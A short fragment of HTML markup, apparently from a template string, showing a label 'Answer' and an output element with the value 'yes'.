  <label for="ek-answer">Answer</label><output>yes</output>
`)
